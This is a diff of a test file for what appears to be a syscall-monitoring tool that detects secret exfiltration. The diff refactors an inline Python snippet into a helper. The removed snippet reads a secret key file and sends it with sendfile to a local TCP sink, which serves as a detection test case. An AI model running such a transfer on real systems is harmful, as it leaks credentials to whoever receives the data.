@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Finding } from '../schema/finding.js';
 import { httpSink, LiveHarness, tcpSink } from '../testing/live-harness.js';
-import { scmRightsScenario } from '../testing/scenarios.js';
+import { scmRightsScenario, sendfileScenario } from '../testing/scenarios.js';
 
 /**
  * Read-then-transmit chains with real programs under the real probes, and
@@ -105,16 +105,7 @@ describe('live: read-then-transmit chains', () => {
   });
 
   it('in-kernel copy: sendfile from the secret into a socket', async () => {
-    const r = await h.run(
-      'sendfile',
-      `python3 -c '
-import os, socket
-s = socket.create_connection(("127.0.0.2", ${tcp.port}))
-fd = os.open("${key}", os.O_RDONLY)
-os.sendfile(s.fileno(), fd, 0, os.path.getsize("${key}"))
-s.close()
-'`,
-    );
+    const r = await h.run('sendfile', sendfileScenario(key, tcp.port));
     expect(r.code).toBe(0);
     const f = only(r.findings);
     expect(f.chain.map((h) => h.syscall)).toEqual(['sendfile', 'sendfile']);
